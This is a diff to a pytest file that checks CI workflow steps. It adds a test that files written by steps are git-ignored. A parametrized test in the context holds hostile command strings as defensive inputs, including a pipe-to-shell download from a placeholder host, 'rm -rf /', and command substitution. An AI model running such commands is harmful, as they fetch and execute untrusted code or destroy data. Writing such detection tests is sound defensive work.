@@ -188,6 +188,13 @@ def test_a_workflow_runs_our_own_scripts_with_options_that_they_have(path: Path)
                 assert all(option in done.stdout for option in re.findall(r"--[\w-]+", match["words"])), line
 
 
+def test_what_a_step_writes_is_never_taken_for_a_part_of_the_change() -> None:
+    written = {name for path in WORKFLOWS for step in steps(read(path)) for name in re.findall(r"[^>]> (\S+)", step.get("run", ""))}
+    assert len(written) >= 5
+    ignored = (ROOT / ".gitignore").read_text(encoding="utf-8").splitlines()
+    assert [name for name in sorted(written) if f"/{name}" not in ignored] == []
+
+
 @pytest.mark.parametrize("line", ["curl https://x.example | sh", "python3 scripts/check.py; rm -rf /", "python3 scripts/check.py && ls", "npm ci", "python3 scripts/check.py $(id)", "python3 scripts/check.py `id`"])
 def test_a_step_that_runs_anything_else_would_be_noticed(line: str) -> None:
     assert not OURS.fullmatch(line)
